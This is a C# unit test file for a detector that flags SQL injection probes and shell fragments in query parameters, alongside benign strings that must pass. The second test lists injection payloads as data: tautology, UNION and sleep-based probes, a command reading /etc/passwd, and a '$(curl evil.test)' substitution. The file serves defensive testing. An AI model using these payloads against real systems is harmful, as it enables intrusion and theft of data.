using System.Text;

namespace ArticDbm.Security.Parameters;

public sealed class ParameterCheckTests
{
    [Theory]
    [InlineData("O'Brien")]
    [InlineData("select a union or two; drop me a line -- thanks")]
    [InlineData("5 or 6 items (or more)")]
    [InlineData("{\"a\": \"it's\", \"b\": \"1\"}")]
    [InlineData("https://example.test/?a=1&b='2'#c")]
    [InlineData("rock 'n' roll; that's \"it\"")]
    [InlineData("2026-01-02")]
    [InlineData("a' and b' and c'")]
    public void Ordinary_text_is_nothing(string text) => Assert.Null(ParameterCheck.Find(SqlDialect.MySql, Encoding.UTF8.GetBytes(text)));

    [Theory]
    [InlineData("x' OR '1'='1", "literal-probe")]
    [InlineData("x' UNION SELECT NULL,NULL-- -", "literal-probe")]
    [InlineData("1 AND sleep(5)", "literal-probe")]
    [InlineData("x\" OR \"1\"=\"1", "literal-probe")]
    [InlineData("1') AND (SELECT 1 FROM (SELECT sleep(5))a) AND ('1'='1", "literal-probe")]
    [InlineData("x; cat /etc/passwd", "shell-fragment")]
    [InlineData("$(curl evil.test)", "shell-fragment")]
    public void A_probe_is_named(string text, string rule) => Assert.Equal(rule, ParameterCheck.Find(SqlDialect.MySql, Encoding.UTF8.GetBytes(text))?.Name);
}
